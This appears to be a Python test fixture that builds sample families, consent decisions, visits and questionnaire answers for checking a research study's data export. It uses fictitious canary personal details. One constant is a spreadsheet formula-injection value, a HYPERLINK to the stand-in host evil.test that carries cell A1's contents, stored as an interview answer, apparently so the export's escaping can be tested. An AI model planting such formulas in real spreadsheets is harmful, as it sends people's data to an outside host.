"""A few families with everything an export has to get right, made once through the rooms and only read afterwards."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID

from asyncpg import Connection, Pool
from msgspec import Struct

from consent import permissions
from consent.permissions import Answer
from consent.purposes import Decision, Purpose
from fieldwork.base import crypto, database, embedded, ids
from fieldwork.base.database import Acting
from fieldwork.base.embedded import Server
from fieldwork.cases import intake, visits
from fieldwork.cases.visits import Held, Part, Visit
from fieldwork.people import persons
from fieldwork.people.persons import Person
from fieldwork.study import declaration, sites
from questionnaires import administrations, openings, sittings
from questionnaires.openings import Opening
from questionnaires.saving import Save
from questionnaires.sittings import Sitting

NOW = datetime(2016, 7, 30, 9, tzinfo=UTC)
T1 = date(2015, 6, 15)
READER, SECOND_READER = ids.new_id(), ids.new_id()
FORMULA = '=HYPERLINK("https://evil.test?"&A1,"Ω")\r\n"quoted"'
# Nothing of these may appear in any file.
CANARIES = ("Annabelle", "Belltower", "Bobkin", "07700900123", "annabelle@families.test", "Canary Lane", "ZZ1 9ZZ")

HEAD = (
    "case_number,referred_on,reasons,eligible,excluded_because,told_on,told_how,agreed_on,objected_on,"
    "role,first_name,last_name,born,phone,email,address,postcode,language"
)
PARENT = "07700900123,annabelle@families.test,1 Canary Lane,ZZ1 9ZZ,"


class Family(Struct):
    family_id: UUID
    reference: str
    site_no: int
    people: list[Person]


class Collected:
    """The finished study, and the way to it as the analyst."""

    def __init__(self, pool: Pool, seen: tuple[int, ...]) -> None:
        self.pool, self.sites = pool, seen
        self.families: dict[str, Family] = {}

    @asynccontextmanager
    async def analyst(self) -> AsyncIterator[Connection]:
        acting = Acting("test", NOW, self.sites, role="fieldwork_analyst")
        async with database.borrowed(self.pool, acting, readonly=True) as conn:
            yield conn

    @asynccontextmanager
    async def staff(self) -> AsyncIterator[Connection]:
        async with database.borrowed(self.pool, Acting("test", NOW, self.sites)) as conn:
            yield conn

    async def take(self, name: str, site_code: str, referred: str, *people: str) -> Family:
        told = (date.fromisoformat(referred) + timedelta(days=2)).isoformat()
        lead = f"CASE-{name},{referred},neglect,yes,,{told},agreeing,{told},"
        lines = "\n".join([HEAD, *(f"{lead},{person}" for person in people)]) + "\n"
        async with self.staff() as conn:
            site = await sites.find(conn, site_code)
            ring = crypto.read_ring(crypto.new_ring())
            protocol = await declaration.current(conn)
            before = {row[0] for row in await conn.fetch("select family_id from people.family")}
            await intake.take(conn, ring, site, lines.encode(), protocol, today=NOW.date())
            found = await conn.fetch("select family_id, reference from people.family")
            new = next(row for row in found if row["family_id"] not in before)
            people_of = await persons.of_family(conn, new["family_id"])
        self.families[name] = Family(new["family_id"], new["reference"], site.no, people_of)
        return self.families[name]

    async def decide(self, family: Family, person: int, decision: Decision, *purposes: Purpose) -> None:
        who = family.people[person - 1].person_id
        said = [Answer(who, purpose, decision, who, "signed", T1) for purpose in purposes]
        async with self.staff() as conn:
            await permissions.record(conn, family.family_id, family.site_no, said)

    async def hold(self, family: Family, wave: str, on: date, *seen: int, why: str | None = None) -> Visit:
        parts = tuple(
            Part(p.person_id, "seen", on) if p.position in seen else Part(p.person_id, "refused") for p in family.people
        )
        async with self.staff() as conn:
            protocol = await declaration.current(conn)
            held = Held(on, "home", parts, why)
            return await visits.hold(conn, family.family_id, wave, held, protocol, today=NOW.date())

    async def answer(
        self,
        family: Family,
        wave: str,
        code: str,
        version: str,
        answers: dict[str, Any],
        *,
        by: int | UUID = 1,
        about: int | str = "self",
        on: date = T1,
        complete: bool = True,
    ) -> UUID:
        respondent = by if isinstance(by, UUID) else family.people[by - 1].person_id
        kind = about if isinstance(about, str) else "child"
        subject = family.family_id if isinstance(about, str) else family.people[about - 1].person_id
        subject = respondent if about == "self" else subject
        async with self.staff() as conn:
            opening = Opening(wave, code, version, respondent, kind, subject, "paper", on)
            held = await openings.begin(conn, family.family_id, family.site_no, opening)
            saves = [Save(ids.new_id(), item, value) for item, value in answers.items()]
            receipts = await administrations.save(conn, family.family_id, held.administration_id, saves)
            assert {receipt.state for receipt in receipts} <= {"stored"}, receipts
            if complete:
                await administrations.complete(conn, family.family_id, held.administration_id, now=NOW)
        return held.administration_id


SDQ = {f"sdq{number:02}": 1 for number in range(1, 26)}
ELEMENTS = ("danger_statements", "complicating_factors", "working_well", "needs_to_happen", "family_networking")


def reading(*found: str, evidence: str) -> dict[str, Any]:
    elements = (*ELEMENTS, "scaling", "safety_planning")
    return {item: "yes" if item in found else "no" for item in elements} | {"assessment_evidence": evidence}


async def collect(server: Server, template: str, name: str) -> Collected:
    await embedded.make_database(server, name, template=template)
    pool = await database.open_pool(server.url(name, "fieldwork_staff"))
    async with database.borrowed(pool, Acting("test", NOW)) as conn:
        study = Collected(pool, await database.all_sites(conn))
    await _two_parents(study)
    await _refused_the_file(study)
    await _lost(study)
    # Told, and not interviewed: no row anywhere.
    await study.take("told", "p1", "2015-08-20", f"parent,Annabelle,Belltower,1980-01-02,{PARENT}")
    return study


async def _two_parents(study: Collected) -> None:
    """Two parents, a child of eight and one of three, two interviews, two readers of the file at the first."""
    family = await study.take(
        "two",
        "n1",
        "2015-03-10",
        f"parent,Annabelle,Belltower,1980-01-02,{PARENT}",
        "parent,Zed,Belltower,1979-05-09,,,,,",
        "child,Bobkin,Belltower,2007-03-12,,,,,",
        "child,Tiny,Belltower,2012-06-20,,,,,",
    )
    for person in (1, 2):
        await study.decide(family, person, Decision.GIVEN, Purpose.TAKE_PART, Purpose.CASE_FILE, Purpose.CONTACT_AGAIN)
    await study.decide(family, 3, Decision.GIVEN, Purpose.CHILD_INTERVIEW, Purpose.ASSENT)
    await study.hold(family, "T1", T1, 1, 2, 3)
    mastery = {f"pms{number}": 3 for number in range(1, 7)}
    await study.answer(family, "T1", "pms", "ps1978", mastery | {"pms7": {"missing": "refused"}})
    await study.answer(family, "T1", "pms", "ps1978", {f"pms{n}": 2 for n in range(1, 8)}, by=2)
    await study.answer(family, "T1", "sdq", "p4-17", SDQ, about=3)
    await study.answer(family, "T1", "sdq", "p2-4", SDQ, about=4)
    opened = {"children_at_home": 2, "first_contact": "2015-02-03", "how_it_began": FORMULA, "anything_else": "-9"}
    await study.answer(family, "T1", "interview_t1", "1", opened, about="family")
    goal = await study.answer(family, "T1", "goal_t1", "1", {"goal": "Annabelle wants peace"}, about="family")
    here = tuple(person.person_id for person in family.people[:2])
    times = [
        Sitting(ids.new_id(), "hope", NOW, 240, 1, here),
        Sitting(ids.new_id(), "hope", NOW + timedelta(hours=1), 60),
    ]
    async with study.staff() as conn:
        await sittings.note(conn, family.family_id, goal, times, people=here)
    child = {"good_day": "Bobkin was there", "ladder": 7, "knows_worker": {"missing": "dont_know"}}
    await study.answer(family, "T1", "talk_child", "1", child, by=3)
    await study.answer(family, "T1", "case_file", "1", reading("scaling", evidence="good"), by=READER, about="file")
    await study.answer(
        family, "T1", "case_file", "1", reading("working_well", evidence="other"), by=SECOND_READER, about="file"
    )
    later = T1 + timedelta(weeks=26)
    await study.hold(family, "T2", later, 1)
    await study.answer(family, "T2", "future", "1", {"famscale": 8}, about="family", on=later)
    await study.answer(family, "T2", "case_file", "1", reading(evidence="limited"), by=READER, about="file", on=later)
    await study.answer(family, "T2", "lsns6", "lsns6", {"lsns1": 3}, on=later, complete=False)


async def _refused_the_file(study: Collected) -> None:
    family = await study.take("refused", "y1", "2015-08-15", f"parent,Annabelle,Belltower,1980-01-02,{PARENT}")
    await study.decide(family, 1, Decision.GIVEN, Purpose.TAKE_PART, Purpose.CONTACT_AGAIN)
    await study.decide(family, 1, Decision.REFUSED, Purpose.CASE_FILE)
    await study.hold(family, "T1", date(2015, 10, 1), 1)
    late = date(2015, 10, 1) + timedelta(weeks=41)
    await study.hold(family, "T2", late, 1, why="postponement")
    await study.answer(family, "T2", "future", "1", {"famscale": {"missing": "dont_know"}}, about="family", on=late)


async def _lost(study: Collected) -> None:
    family = await study.take("lost", "p1", "2015-08-18", f"parent,Annabelle,Belltower,1980-01-02,{PARENT}")
    await study.decide(family, 1, Decision.GIVEN, Purpose.TAKE_PART, Purpose.CASE_FILE)
    await study.decide(family, 1, Decision.WITHDRAWN, Purpose.CASE_FILE)
    await study.hold(family, "T1", date(2015, 10, 2), 1)
    async with study.staff() as conn:
        await visits.lose(conn, family.family_id, "T2", because="moved_away")
